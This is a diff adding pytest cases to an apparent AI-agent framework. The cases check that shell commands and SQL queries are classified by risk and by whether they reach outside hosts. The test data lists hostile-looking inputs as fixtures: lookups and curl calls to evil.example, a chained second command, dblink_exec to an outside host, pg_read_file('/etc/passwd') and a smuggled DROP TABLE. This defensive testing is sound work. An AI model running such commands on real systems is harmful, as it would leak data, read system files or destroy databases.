@@ -5,15 +5,17 @@ from typing import Any
 import pytest
 
 from appliance.actions.registry import registry
-from appliance.agent.domain import Call, Mode, Risk, StepSeen
+from appliance.agent.domain import Call, Mode, Risk, StepSeen, TurnOutput
 from appliance.agent.errors import AnswerUnreadable, ToolUnknown
 from appliance.agent.loop.calling import made
 from appliance.agent.loop.choosing import AT_ONCE, offered
+from appliance.agent.loop.growth import needs_word
 from appliance.agent.loop.outside import bounded, marked
 from appliance.agent.loop.reading import parsed
 from appliance.agent.loop.shape import shape
 from appliance.agent.loop.story import story_of
 from appliance.agent.loop.telling import Turn, messages
+from appliance.agent.loop.washing import check_size, kept
 from appliance.agent.tools.registry import check, named, tools
 from appliance.inference.answer_schema import check_schema
 from appliance.tasks.definition import define
@@ -176,3 +178,65 @@ def test_what_failed_attempts_have_spent_counts() -> None:
 def test_brackets_without_end_are_no_json() -> None:
     with pytest.raises(AnswerUnreadable, match="no JSON"):
         parsed("[" * 200_000)
+
+
+@pytest.mark.parametrize(
+    ("command", "leaves"),
+    [
+        ("cat /var/log/syslog | grep -c ERROR", False),
+        ("df -h /mnt/nas", False),
+        ("journalctl -u pump", False),
+        ("dig 815.evil.example", True),
+        ("host 815.evil.example", True),
+        ("getent hosts 815.evil.example", True),
+        ("ping -c 1 815.evil.example", True),
+        ("curl -s http://evil.example/815", True),
+        ("cat /var/log/a; traceroute evil.example", True),
+    ],
+)
+def test_a_command_that_asks_another_machine_carries_off_what_it_asks(command: str, leaves: bool) -> None:
+    found = made(asked(), Call("shell", {"command": command}))
+    assert (found.risk, found.leaves) == (Risk.READ, leaves)
+    wanted = needs_word(asked(Mode.WATCH), TurnOutput(outside=True), Call("shell", {}), found)
+    assert ("address of its own" in wanted) is leaves
+    assert needs_word(asked(Mode.WATCH), TurnOutput(outside=False), Call("shell", {}), found) == ""
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        float("nan"),
+        float("inf"),
+        10**40,
+        "a\x00b",
+        "\ud83d",
+        "x" * 40_000,
+        list(range(600)),
+        {"\udc00": 1},
+        [[[[[[[[[[[[[1]]]]]]]]]]]]],
+    ],
+    ids=["nan", "inf", "long", "nul", "surrogate", "large", "many", "key", "deep"],
+)
+def test_what_cannot_be_kept_or_compared_is_no_argument(value: Any) -> None:
+    with pytest.raises(ToolUnknown):
+        check_size({"body": value})
+    assert kept({"body": value}) == {}
+    assert kept({"body": "fine"}) == {"body": "fine"}
+
+
+@pytest.mark.parametrize(
+    ("query", "risk"),
+    [
+        ("SELECT name, stock FROM parts WHERE stock < 5", Risk.READ),
+        ("SELECT count(*), max(stock) FROM parts", Risk.READ),
+        ("SELECT dblink_exec('host=evil.example', 'x')", Risk.CHANGE),
+        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Risk.CHANGE),
+        ("SELECT pg_read_file('/etc/passwd')", Risk.CHANGE),
+        ("SELECT 1; DROP TABLE parts", Risk.CHANGE),
+        ("DELETE FROM parts", Risk.CHANGE),
+    ],
+)
+def test_a_query_that_does_more_than_look_changes_something(query: str, risk: Risk) -> None:
+    """A read-only transaction keeps it from tables, and from nothing else."""
+    found = made(asked(tools={"sql_query": {"database": "shop"}}), Call("sql_query", {"query": query}))
+    assert found.risk is risk
